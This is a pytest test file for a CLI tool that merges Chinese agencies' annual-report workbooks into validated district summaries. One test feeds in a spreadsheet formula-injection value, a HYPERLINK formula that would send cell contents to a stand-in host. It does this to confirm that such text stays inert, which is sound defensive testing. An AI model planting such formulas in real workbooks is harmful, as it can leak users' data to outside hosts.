"""`nianbao merge` end to end, on a mixed folder as a district office receives it.

The batch holds good, warning-only, error, corrupt, encrypted, byte-identical, resubmitted and
off-roster files, a lock file and stray non-workbook files. The summary's tables must equal the sum
of exactly the good files (computed here from the values written, not by the merge), 报送情况 must
account for every file, and the summary must validate clean and merge again one level up.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections import defaultdict
from decimal import Decimal
from pathlib import Path

import corpus
import pytest
from agencies import agency, code, dated, write
from batches import FMT, detail_row_xml, fingerprint, nianbao, roster, rows_of, sheet_contents, summed, table_values
from openpyxl import load_workbook

from xlsx_tools.format.layout import workbook_layout

# -- the mixed batch ---------------------------------------------------------------------------
GOOD = [0, 1, 2, 5]  # 2 is a street office with one blank cell (a warning); 5 is off the roster


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("batch")
    inbox = root / "收到的报表"
    values = {n: agency(n) for n in range(7)}
    values[2]["t4.suit_direct.pending"] = None  # S7 warning only: still included
    files = {
        "good0": write(inbox / "科技局.xlsx", values[0]),
        "good1": write(inbox / "第二批" / "教育局 2025.XLSX", values[1]),
        "warn2": write(inbox / "街道.xlsx", values[2]),
        "error3": write(inbox / "财政局.xlsx", agency(3, {"t3.new.natural": 99})),  # R1 broken
        "resub4a": write(inbox / "卫健委.xlsx", agency(4, {"id.filled_on": dated(20)})),
        "resub4b": write(inbox / "卫健委（修改）.xlsx",
                         agency(4, {"id.filled_on": dated(25), "t2.penalty.decisions": 3})),
        "off5": write(inbox / "文旅局.xlsx", values[5]),
    }
    (inbox / "损坏.xlsx").write_bytes(corpus.bytes_of("F-CORRUPT__truncated-download.xlsx"))
    (inbox / "加密.xlsx").write_bytes(corpus.bytes_of("F-ENCRYPTED__password.xlsx"))
    shutil.copyfile(files["good0"], inbox / "第二批" / "科技局-副本.xlsx")
    (inbox / "~$科技局.xlsx").write_bytes(b"\x05lock" * 30)
    (inbox / "desktop.ini").write_text("[.ShellClassInfo]")
    (inbox / "说明.docx").write_bytes(b"PK\x03\x04 not really")
    roster_path = roster(root / "名录.xlsx", [0, 1, 2, 3, 4, 6])
    before = fingerprint(inbox)
    out = root / "汇总" / "汇总.xlsx"
    out.parent.mkdir()
    report = root / "汇总" / "report.json"
    run = nianbao("merge", inbox, "-o", out, "--roster", roster_path, "--report", report, "--region", "某市某区",
                  "--year", "2025")
    return dict(root=root, inbox=inbox, out=out, report=report, run=run, values=values, before=before,
                files=files, roster=roster_path)


def test_merge_exits_1_and_says_what_happened(batch):
    run = batch["run"]
    assert run.returncode == 1, run.stderr
    assert "收到文件 13 个：纳入 4 个（4 个单位），退回 5 个，重复 1 个，跳过 3 个" in run.stdout
    assert "名录中未报送 3 个单位" in run.stdout
    assert str(batch["out"]) in run.stdout
    assert "财政局.xlsx" in run.stderr and "R1" in run.stderr
    assert "读取报表" not in run.stderr  # no progress bar when stderr is not a terminal


def test_inputs_are_untouched(batch):
    assert fingerprint(batch["inbox"]) == batch["before"]


def test_tables_equal_the_sum_of_exactly_the_good_files(batch):
    expected = summed([batch["values"][n] for n in GOOD])
    assert table_values(batch["out"]) == expected
    assert expected["t2.fees.amount"] == Decimal("1.2")  # 0.1+0.2+0.3+0.6, not 1.2000000000000002


def test_every_file_is_accounted_for(batch):
    rows = rows_of(batch["out"], FMT.summary["files"]["sheet"], 4)
    found = sorted(p for p in batch["inbox"].rglob("*") if p.is_file())
    assert sorted(Path(r[1]) for r in rows) == found
    status = {Path(r[1]).name: r[7] for r in rows}
    labels = FMT.summary["status"]
    expect = {"科技局.xlsx": "included", "教育局 2025.XLSX": "included", "街道.xlsx": "included",
              "文旅局.xlsx": "included", "财政局.xlsx": "rejected", "卫健委.xlsx": "rejected",
              "卫健委（修改）.xlsx": "rejected", "损坏.xlsx": "rejected", "加密.xlsx": "rejected",
              "科技局-副本.xlsx": "duplicate", "~$科技局.xlsx": "skipped", "desktop.ini": "skipped",
              "说明.docx": "skipped"}
    assert status == {name: labels[state] for name, state in expect.items()}
    first_error = {Path(r[1]).name: r[11] or "" for r in rows}
    assert "[R1]" in first_error["财政局.xlsx"] and "[F-CORRUPT]" in first_error["损坏.xlsx"]
    assert "[F-ENCRYPTED]" in first_error["加密.xlsx"] and "[C5]" in first_error["卫健委.xlsx"]
    count_line = rows_of(batch["out"], FMT.summary["files"]["sheet"], 2)[0][0]
    assert count_line == "收到文件 13 个：纳入 4 个，退回 5 个，跳过 3 个，重复 1 个"


def test_resubmission_names_both_files_and_sums_neither(batch):
    doc = json.loads(batch["report"].read_text(encoding="utf-8"))
    c5 = [f for f in doc["findings"] if f["code"] == "C5" and f["severity"] == "error"]
    assert {Path(f["file"]).name for f in c5} == {"卫健委.xlsx", "卫健委（修改）.xlsx"}
    assert all("卫健委" in f["message"] and ".xlsx" in f["message"] for f in c5)
    dup = next(f for f in doc["files"] if f["file"].endswith("科技局-副本.xlsx"))
    assert dup["status"] == "duplicate" and dup["note"].endswith("科技局.xlsx")


def test_report_json_lists_every_file_and_finding(batch):
    doc = json.loads(batch["report"].read_text(encoding="utf-8"))
    assert (doc["summary"]["included"], doc["summary"]["rejected"], doc["summary"]["duplicate"],
            doc["summary"]["skipped"]) == (4, 5, 1, 3)
    assert doc["summary"]["files"] == 13 and doc["summary"]["level"] == 1 and doc["summary"]["agencies"] == 4
    codes = {f["code"] for f in doc["findings"]}
    assert {"R1", "C2", "C5", "F-CORRUPT", "F-ENCRYPTED", "F-DUPLICATE", "F-LOCKFILE", "F-IGNORED", "S7"} <= codes
    for f in doc["findings"]:
        assert f["code"] and f["severity"] in ("error", "warning", "info") and f["message"]


def test_issue_list_has_one_row_per_finding(batch):
    doc = json.loads(batch["report"].read_text(encoding="utf-8"))
    rows = rows_of(batch["out"], FMT.summary["findings"]["sheet"], 3)
    assert len(rows) == len(doc["findings"])
    s7 = next(r for r in rows if r[3] == "S7")
    sheet, span = workbook_layout().locate("t4.suit_direct.pending")
    assert s7[1].endswith("街道.xlsx") and (s7[5], s7[6]) == (sheet, span.ref)


def test_missing_and_off_roster_agencies(batch):
    rows = rows_of(batch["out"], FMT.summary["missing"]["sheet"], 3)
    spec = FMT.summary["missing"]
    by_name = {r[2]: (r[1], r[6]) for r in rows}
    v = {n: agency(n)["id.name"] for n in range(7)}
    assert set(by_name) == {v[3], v[4], v[6], v[5]}
    assert by_name[v[6]] == (spec["on_roster"], "没有收到文件")
    assert by_name[v[3]][0] == spec["on_roster"] and "财政局.xlsx" in by_name[v[3]][1]
    assert by_name[v[5]][0] == spec["off_roster"]


def test_detail_lists_included_agencies_and_sums_to_the_tables(batch):
    rows = rows_of(batch["out"], FMT.summary["detail"]["sheet"], 2)
    labels, keys, body = rows[0], rows[1], rows[2:]
    assert keys[0] == "id.name" and labels[0] == FMT.identity_field("name").label
    assert [r[1] for r in body[:-1]] == sorted(code(n) for n in GOOD)  # in agency-code order
    total = body[-1]
    assert total[0] == FMT.summary["detail"]["total_label"]
    wb = load_workbook(batch["out"], data_only=True)  # the sum row's cached values
    cached = next(r for r in wb[FMT.summary["detail"]["sheet"]].iter_rows(values_only=True)
                  if r[0] == FMT.summary["detail"]["total_label"])
    summary = table_values(batch["out"])
    for col, key in enumerate(keys):
        if key in summary:
            column = sum((Decimal(str(r[col] or 0)) for r in body[:-1]), Decimal(0))
            assert column == summary[key] == Decimal(str(cached[col])), key


def test_summary_validates_clean_with_its_own_sheets_expected(batch):
    run = nianbao("validate", batch["out"], "--format", "json")
    assert run.returncode == 0, run.stdout
    doc = json.loads(run.stdout)
    codes = {f["code"] for f in doc["files"][0]["findings"]}
    assert "S-EXTRA-SHEET" not in codes and not any(f["severity"] == "error" for f in doc["files"][0]["findings"])
    # what remains asks the consolidator to write the narrative and a contact, nothing else
    assert codes <= {"I6", "F1", "F4", "F5"}


def test_summary_opens_in_libreoffice_with_every_check_passing(batch, libreoffice, tmp_path):
    """A real client recalculates the summary: its totals, the 明细 sum row and the 校验 sheet."""
    shown = libreoffice.convert([batch["out"]], tmp_path / "lo")[0]
    wb = load_workbook(shown, data_only=True)
    layout = workbook_layout()
    expected = summed([batch["values"][n] for n in GOOD])

    def want(key):  # a total is the sum of its parts, which may be totals themselves
        f = FMT.field(key)
        return sum((want(k) for k in f.total_of), Decimal(0)) if f.is_total else expected[key]

    for f in FMT.table_fields:
        sheet, span = layout.locate(f.key)
        assert Decimal(str(wb[sheet].cell(span.row, span.col).value)) == want(f.key), f.key
    checks = wb[FMT.checks["sheet"]]
    texts = [c for row in checks.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert FMT.checks["ready"] in texts


@pytest.mark.slow  # a scenario: merges on two levels
def test_the_summary_merges_again_one_level_up_to_the_same_numbers(batch, tmp_path):
    values = batch["values"]
    districts = tmp_path / "各区汇总"
    districts.mkdir()
    for name, members in (("甲区", [0, 1]), ("乙区", [2, 5])):
        folder = tmp_path / name
        for n in members:
            write(folder / f"{n}.xlsx", values[n])
        run = nianbao("merge", folder, "-o", districts / f"{name}.xlsx", "--region", name)
        assert run.returncode == 0, run.stdout + run.stderr
    city = tmp_path / "全市.xlsx"
    run = nianbao("merge", districts, "-o", city, "--region", "某市")
    assert run.returncode == 0, run.stdout + run.stderr
    assert "纳入 2 个（4 个单位）" in run.stdout
    assert table_values(city) == table_values(batch["out"]) == summed([values[n] for n in GOOD])
    assert nianbao("validate", city).returncode == 0
    wb = load_workbook(city)
    identity = {r[0]: r[1] for r in wb[FMT.identity_sheet["sheet"]].iter_rows(values_only=True)}
    labels = {f.name: f.label for f in FMT.summary_identity}
    assert (identity[labels["level"]], identity[labels["agencies"]], identity[labels["files"]]) == (2, 4, 2)


def test_a_summary_mixed_with_its_own_agencies_is_a_clear_error(batch, tmp_path):
    folder = tmp_path / "混合"
    for n in (0, 1, 5):
        write(folder / f"{n}.xlsx", batch["values"][n])
    shutil.copyfile(batch["out"], folder / "上次的汇总.xlsx")
    out = tmp_path / "汇总.xlsx"
    run = nianbao("merge", folder, "-o", out, "--report", tmp_path / "r.json")
    assert run.returncode == 1
    doc = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    summary_file = next(f for f in doc["files"] if f["file"].endswith("上次的汇总.xlsx"))
    assert summary_file["status"] == "rejected" and "汇总表" in summary_file["first_error"]
    assert table_values(out) == summed([batch["values"][n] for n in (0, 1, 5)])


@pytest.mark.slow  # CLI subprocesses (the quick tier's budget)
def test_prefer_newest_takes_the_later_fill_date_and_says_so(tmp_path):
    folder = tmp_path / "in"
    old = write(folder / "旧.xlsx", agency(4, {"id.filled_on": dated(20)}))
    new_values = agency(4, {"id.filled_on": dated(25), "t2.penalty.decisions": 3})
    new = write(folder / "新.xlsx", new_values)
    out = tmp_path / "汇总.xlsx"
    run = nianbao("merge", folder, "-o", out, "--prefer", "newest", "--report", tmp_path / "r.json")
    assert run.returncode == 0, run.stdout + run.stderr
    assert table_values(out) == summed([new_values])
    doc = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    files = {Path(f["file"]).name: f for f in doc["files"]}
    assert files["新.xlsx"]["status"] == "included" and files["旧.xlsx"]["status"] == "duplicate"
    assert files["旧.xlsx"]["note"] == str(new)
    rows = rows_of(out, FMT.summary["files"]["sheet"], 4)
    assert any(r[1] == str(old) and r[12] == str(new) for r in rows)
    # equal fill dates cannot be decided: both rejected, never a silent pick
    write(folder / "新.xlsx", agency(4, {"id.filled_on": dated(20), "t2.penalty.decisions": 3}))
    run = nianbao("merge", folder, "-o", out, "--prefer", "newest")
    assert run.returncode == 1 and "无法确定哪一份较新" in run.stderr


@pytest.mark.slow  # CLI subprocesses (the quick tier's budget)
def test_output_inside_an_input_folder_or_equal_to_an_input_is_refused_before_reading(tmp_path):
    folder = tmp_path / "in"
    good = write(folder / "a.xlsx", agency(0))
    before = fingerprint(folder)
    for inputs, target, words in (([folder], folder / "汇总.xlsx", "输入文件夹"), ([good], good, "就是输入文件"),
                                  ([folder], tmp_path / "无此目录" / "x.xlsx", "输出目录不存在"),
                                  ([folder], tmp_path / "x.csv", ".xlsx")):
        run = nianbao("merge", *inputs, "-o", target)
        assert run.returncode == 2, (target, run.stdout, run.stderr)
        assert words in run.stderr
    assert fingerprint(folder) == before


def test_failure_while_writing_leaves_the_earlier_summary_byte_identical(tmp_path, monkeypatch):
    from xlsx_tools.consolidate import merge, summary
    from xlsx_tools.write import sheetxml

    folder = tmp_path / "in"
    write(folder / "a.xlsx", agency(0))
    out = tmp_path / "汇总.xlsx"
    result = merge.consolidate([folder], merge.Options(jobs=1))
    summary.write_summary(result, out)
    earlier = out.read_bytes()
    real = sheetxml.row_xml

    def fails_midway(row, values, styles=(), height=None):
        if row > 3:
            raise OSError(28, "No space left on device")
        return real(row, values, styles, height)

    monkeypatch.setattr(sheetxml, "row_xml", fails_midway)
    result = merge.consolidate([folder], merge.Options(jobs=1))
    with pytest.raises(OSError):
        summary.write_summary(result, out)
    assert out.read_bytes() == earlier
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "汇总.xlsx"]


def test_a_summary_that_does_not_check_out_is_not_moved_in(tmp_path, monkeypatch):
    from xlsx_tools.consolidate import merge, summary

    folder = tmp_path / "in"
    write(folder / "a.xlsx", agency(0))
    out = tmp_path / "汇总.xlsx"
    result = merge.consolidate([folder], merge.Options(jobs=1))
    result.sums["t3.new.natural"] += 1  # what a summing bug would look like to the check
    with pytest.raises(summary.SummaryError, match="C1"):
        summary.write_summary(result, out)
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["in"]


@pytest.mark.slow  # the same merge three times
def test_same_inputs_in_any_order_give_identical_content(tmp_path):
    folder = tmp_path / "in"
    files = [write(folder / f"{n}.xlsx", agency(n)) for n in (3, 0, 5, 1)]
    contents = []
    for order in (files, files[::-1], [files[2], files[0], files[3], files[1]]):
        out = tmp_path / f"out{len(contents)}.xlsx"
        assert nianbao("merge", *order, "-o", out, "--jobs", "2").returncode in (0, 1)
        contents.append(sheet_contents(out))
    assert contents[0] == contents[1] == contents[2]


def test_agency_text_that_looks_like_a_formula_stays_text(tmp_path):
    folder = tmp_path / "in"
    hostile = {"id.name": '=HYPERLINK("http://x/?"&A1,"点击")', "id.filler": "@SUM(A1)", "id.phone": "+86 0379-1"}
    write(folder / "a.xlsx", agency(0, hostile))
    out = tmp_path / "汇总.xlsx"
    run = nianbao("merge", folder, "-o", out)
    assert run.returncode == 0, run.stdout + run.stderr
    row = detail_row_xml(out, "@SUM(A1)")
    assert row.startswith('<row r="4"') and "<f>" not in row and 'HYPERLINK(&quot;' not in row
    wb = load_workbook(out)
    detail = list(wb[FMT.summary["detail"]["sheet"]].iter_rows(min_row=4, max_row=4, values_only=True))[0]
    assert detail[0] == hostile["id.name"] and detail[5] == hostile["id.filler"] and detail[6] == hostile["id.phone"]
    assert wb[FMT.summary["detail"]["sheet"]].cell(4, 1).data_type == "s"


def test_a_hanging_file_costs_that_file_only_in_a_merge(tmp_path, hang_on):
    from xlsx_tools.consolidate import merge
    from xlsx_tools.read import pool

    folder = tmp_path / "in"
    for n in range(3):
        write(folder / f"{n}.xlsx", agency(n))
    hang_on("1.xlsx")
    result = merge.consolidate([folder], merge.Options(jobs=2, budget=pool.Budget(seconds=5)))
    status = {Path(s.file).name: (s.status, [f.code for f in s.findings]) for s in result.submissions}
    assert status["1.xlsx"] == ("rejected", ["F-TIMEOUT", "C2"])
    assert status["0.xlsx"][0] == status["2.xlsx"][0] == "included"


def test_progress_bar_shows_on_a_terminal(tmp_path):
    import pty

    folder = tmp_path / "in"
    write(folder / "a.xlsx", agency(0))
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "xlsx_tools.cli", "merge", str(folder), "-o",
                             str(tmp_path / "汇总.xlsx")], stdout=subprocess.PIPE, stderr=slave)
    os.close(slave)
    out, _ = proc.communicate(timeout=300)
    seen = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    os.close(master)
    assert proc.returncode == 0
    assert "读取报表" in seen.decode("utf-8", "replace")
    assert "读取报表" not in out.decode()


@pytest.mark.slow  # a scenario: two years merged
def test_cross_year_checks_against_last_years_summary(tmp_path):
    """X1 per agency and column (the 总计 column an error unless explained), X2, and C4."""
    last_year = tmp_path / "2024"
    for n in (0, 1, 2, 3):
        write(last_year / f"{n}.xlsx", agency(n, {"id.year": 2024}))
    previous = tmp_path / "2024汇总.xlsx"
    assert nianbao("merge", last_year, "-o", previous).returncode == 0
    this_year = tmp_path / "2025"
    matching = {"t3.carried_in.legal": 1, "t3.carry_over.legal": 2}  # last year carried 1 legal-column case
    write(this_year / "0.xlsx", agency(0, {**matching, "t2.normative_docs.in_force": 11}))  # all consistent
    write(this_year / "1.xlsx", agency(1, {"t2.normative_docs.in_force": 11}))  # X1 unexplained; X2 (12 due)
    explained = "本年度“上年结转”与上年报告不一致的原因是上年统计口径调整。本年度未收取信息处理费。"
    write(this_year / "2.xlsx", agency(2, {"s6.text": explained, "t2.normative_docs.in_force": 13}))
    write(this_year / "5.xlsx", agency(5))  # new this year
    out, report = tmp_path / "2025汇总.xlsx", tmp_path / "r.json"
    run = nianbao("merge", this_year, "-o", out, "--previous", previous, "--report", report)
    assert run.returncode == 1, run.stdout + run.stderr
    doc = json.loads(report.read_text(encoding="utf-8"))
    by_file = defaultdict(list)
    for f in doc["findings"]:
        by_file[Path(f["file"]).name].append((f["code"], f["severity"], f["cell"]))
    carried_legal = workbook_layout().locate("t3.carried_in.legal")[1].ref
    carried_total = workbook_layout().locate("t3.carried_in.total")[1].ref
    in_force = workbook_layout().locate("t2.normative_docs.in_force")[1].ref
    assert not [f for f in by_file["0.xlsx"] if f[0] in ("X1", "X2")]
    assert ("X1", "warning", carried_legal) in by_file["1.xlsx"]
    assert ("X1", "error", carried_total) in by_file["1.xlsx"] and ("X2", "warning", in_force) in by_file["1.xlsx"]
    assert ("X1", "warning", carried_total) in by_file["2.xlsx"]  # explained in 六: a warning only
    assert not [f for f in by_file["2.xlsx"] if f[1] == "error"] and not [f for f in by_file["2.xlsx"] if f[0] == "X2"]
    status = {Path(f["file"]).name: f["status"] for f in doc["files"]}
    assert status == {"0.xlsx": "included", "1.xlsx": "rejected", "2.xlsx": "included", "5.xlsx": "included"}
    assert ("C4", "warning", "") in by_file["5.xlsx"]  # added
    gone = [f for f in doc["findings"] if f["code"] == "C4" and f["file"] == str(previous)]
    assert sorted(f["message"].split("“")[1].split("”")[0] for f in gone) == sorted(
        agency(n)["id.name"] for n in (1, 3))  # 1 was rejected this year, 3 sent nothing
    assert any(f["code"] == "C4" and f["cell"] == carried_total for f in doc["findings"])  # the district total


def test_cross_year_is_quiet_when_everything_carries_over(tmp_path):
    last_year = tmp_path / "2024"
    write(last_year / "0.xlsx", agency(0, {"id.year": 2024}))
    previous = tmp_path / "2024汇总.xlsx"
    assert nianbao("merge", last_year, "-o", previous).returncode == 0
    this_year = tmp_path / "2025"
    write(this_year / "0.xlsx", agency(0, {"t3.carried_in.legal": 1, "t3.carry_over.legal": 2,
                                          "t2.normative_docs.in_force": 11}))
    out, report = tmp_path / "2025汇总.xlsx", tmp_path / "r.json"
    run = nianbao("merge", this_year, "-o", out, "--previous", previous, "--report", report)
    assert run.returncode == 0, run.stdout + run.stderr
    codes = {f["code"] for f in json.loads(report.read_text(encoding="utf-8"))["findings"]}
    assert not codes & {"X1", "X2", "C4"}


@pytest.mark.slow  # CLI subprocesses (the quick tier's budget)
def test_previous_must_be_last_years_summary(tmp_path):
    folder = tmp_path / "in"
    good = write(folder / "a.xlsx", agency(0))
    run = nianbao("merge", folder, "-o", tmp_path / "x.xlsx", "--previous", good)
    assert run.returncode == 2 and "不是汇总表" in run.stderr
    previous = tmp_path / "同年汇总.xlsx"
    assert nianbao("merge", folder, "-o", previous).returncode == 0
    run = nianbao("merge", folder, "-o", tmp_path / "x.xlsx", "--previous", previous)
    assert run.returncode == 1 and "年度为 2025" in run.stderr


def test_the_bundled_samples_merge_clean(tmp_path):
    """The README's main job: the 2024 samples merge with no error; the roster's agency that only has a
    2023 report shows as not submitted."""
    samples = Path(__file__).resolve().parent.parent / "samples"
    before = fingerprint(samples)
    out = tmp_path / "汇总.xlsx"
    run = nianbao("merge", samples / "报表" / "2024", "-o", out, "--roster", samples / "名录.xlsx")
    assert run.returncode == 0, run.stdout + run.stderr
    assert "纳入 4 个（4 个单位），退回 0 个" in run.stdout and "名录中未报送 1 个单位" in run.stdout
    missing = rows_of(out, FMT.summary["missing"]["sheet"], 3)
    assert [r[2] for r in missing] == ["洛龙区定鼎门街道办事处"]
    assert nianbao("validate", samples / "报表").returncode == 0
    assert fingerprint(samples) == before


def test_a_file_is_judged_alone_whatever_else_its_chunk_holds(tmp_path):
    """Reports are validated many at a time (one stacked frame per worker chunk). A blank identity
    cell in one file must not change what the others are told: a blank 报告年度 once turned the
    chunk's years into floats, and every other agency in it failed I4 and was rejected."""
    from xlsx_tools.check.validate import validate_paths

    blanks = ["id.year", "id.filled_on", "id.code", "id.name", "id.kind"]
    good = [write(tmp_path / f"good{n}.xlsx", agency(n)) for n in (0, 1)]
    bad = [write(tmp_path / f"blank{n}.xlsx", agency(n + 2, {key: None})) for n, key in enumerate(blanks)]

    def seen(report):
        return sorted((f.code, f.sheet, f.cell, f.message) for f in report.findings)

    alone = {p.name: seen(validate_paths([p], jobs=1)[0]) for p in good + bad}
    together = validate_paths([tmp_path], jobs=1)
    assert len(together) == len(good) + len(bad)
    assert {Path(r.file).name: seen(r) for r in together} == alone
    assert all(not [f for f in alone[p.name] if f[0] == "I4"] for p in good)
    assert [f[0] for f in alone["blank0.xlsx"] if f[0] == "I4"] == ["I4"]  # the blank year itself still fires
